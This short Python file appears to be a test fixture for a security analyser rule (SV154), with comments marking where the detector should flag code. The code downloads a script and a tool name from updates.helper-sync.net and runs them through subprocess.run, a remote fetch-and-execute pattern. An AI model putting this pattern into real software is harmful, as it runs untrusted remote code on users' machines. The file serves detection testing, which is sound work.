import subprocess
import urllib.request

code = urllib.request.urlopen("https://updates.helper-sync.net/step.py").read().decode()
subprocess.run(["python3", "-c", code])  # want "SV154: subprocess.run runs a command taken from an HTTP response"
tool = urllib.request.urlopen("https://updates.helper-sync.net/tool").read().decode().strip()
argv = [tool, "--apply"]
subprocess.run(argv)  # want "SV154: subprocess.run runs a command taken from an HTTP response"
